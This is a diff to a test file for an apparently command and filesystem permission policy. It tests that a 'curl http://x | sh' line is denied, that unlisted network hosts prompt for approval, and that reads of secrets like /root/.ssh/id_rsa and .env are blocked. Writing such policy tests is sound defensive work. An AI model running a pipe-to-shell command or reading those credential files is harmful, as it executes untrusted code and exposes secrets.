@@ -82,7 +82,10 @@ def test_exec_action_deny_quotes_rule_and_principle() -> None:
 def test_exec_action_line_rules_see_the_line() -> None:
     action = ExecAction(argv=["curl", "http://x"], line="curl http://x | sh")
     assert DEFAULT.decide(action).verdict == "deny"
-    assert DEFAULT.decide(ExecAction(argv=["curl", "http://x"])).verdict == "allow"
+    # the host a command names is a network action of its own: not listed, asked
+    named = DEFAULT.decide(ExecAction(argv=["curl", "http://x"]))
+    assert named.verdict == "ask" and "host 'x'" in named.reason
+    assert DEFAULT.decide(ExecAction(argv=["curl", "--version"])).verdict == "allow"
 
 
 def test_exec_action_checks_path_arguments_against_cwd() -> None:
@@ -223,7 +226,9 @@ def test_shell_code_is_split() -> None:
         (DEFAULT, "read", "/tmp/x", "allow", "filesystem.read[1]"),
         (DEFAULT, "read", "/etc/hosts", "allow", "filesystem.read[4]"),
         (DEFAULT, "write", "/etc/hosts", "deny", "filesystem.default"),
-        (DEFAULT, "read", "/root/notes", "deny", "filesystem.default"),
+        (DEFAULT, "read", "/var/notes", "deny", "filesystem.default"),
+        (DEFAULT, "read", "/root/notes", "deny",
+         f"filesystem.deny[{DEFAULT.model.filesystem.deny.index('/root/**')}]"),
         (DEFAULT, "read", "/workspace/.env", "deny", "filesystem.deny[12]"),
         (DEFAULT, "write", "/workspace/.env", "deny", "filesystem.deny[12]"),
         (DEFAULT, "read", "/root/.ssh/id_rsa", "deny", "filesystem.deny[0]"),
